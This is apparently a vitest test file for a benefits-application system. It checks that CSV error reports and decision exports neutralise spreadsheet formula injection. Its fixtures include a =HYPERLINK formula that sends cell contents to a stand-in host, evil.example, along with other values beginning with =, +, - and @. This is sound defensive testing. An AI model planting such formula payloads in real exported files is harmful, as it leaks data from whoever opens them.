import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { errorReportCsv, exportLines, importBundle } from '../src/modules/interchange/index.ts';
import { idCheckChar } from '../src/kernel/identity.ts';
import { runSettlement } from '../src/workflows/settle.ts';
import { testContext } from './support/context.ts';

const idOf = (seq: string) => `32010219900101${seq}` + idCheckChar(`32010219900101${seq}`);
const ID = idOf('777');
const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")';
const quoted = (v: string) => `"${v.replace(/"/g, '""')}"`;

describe('formula injection through imported text', () => {
  let ctx: Awaited<ReturnType<typeof testContext>>;
  let imported: Awaited<ReturnType<typeof importBundle>>;
  beforeAll(async () => {
    ctx = await testContext();
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'injection-'));
    fs.writeFileSync(
      path.join(dir, 'persons.csv'),
      'id_number,name,phone,city_code,groups,insured_months,insured_as_of\n' +
        `${ID},张三,13900000000,320100,G2,0,2026-06-30\n` +
        `${idOf('888')},李四,${quoted(EVIL)},320100,G2,0,2026-06-30\n`,
    ); // an evil phone: a row error
    fs.writeFileSync(
      path.join(dir, 'applications.csv'),
      'application_id,id_number,type,certificate_no,project_code,applied_on\n' +
        `${quoted(EVIL)},${ID},training,@CERT,,2026-03-01\n` +
        `-1+2,${ID},skill_upgrade,+CERT,,2026-03-02\n`,
    );
    imported = await importBundle(ctx.db, dir, { actor: 'test', vault: ctx.vault });
  });
  afterAll(() => ctx.drop());

  it('neutralises a malicious value in the row-error report, as the CLI and the web app write it', () => {
    expect(imported.errors.map((e) => [e.line, e.column, e.value])).toEqual([[3, 'phone', EVIL]]); // stored as it came
    const report = parse(errorReportCsv(imported.errors), { columns: true }) as Record<string, string>[];
    expect(report[0]).toMatchObject({ line: '3', column: 'phone', value: `'${EVIL}` });
  });

  it('neutralises malicious application ids in decisions.csv; amounts stay numbers', async () => {
    await runSettlement(ctx, { asOf: '2026-12-31', actor: 'test' });
    const rows = parse((await exportLines(ctx.db, 'decisions', { vault: ctx.vault })).join(''), {
      columns: true,
    }) as Record<string, string>[];
    expect(rows.map((d) => [d.application_id, d.amount])).toEqual(
      expect.arrayContaining([
        [`'${EVIL}`, '0.00'],
        ["'-1+2", '0.00'],
      ]),
    );
    for (const d of rows) expect(d.application_id).not.toMatch(/^[=+\-@\t\r]/);
  });
});
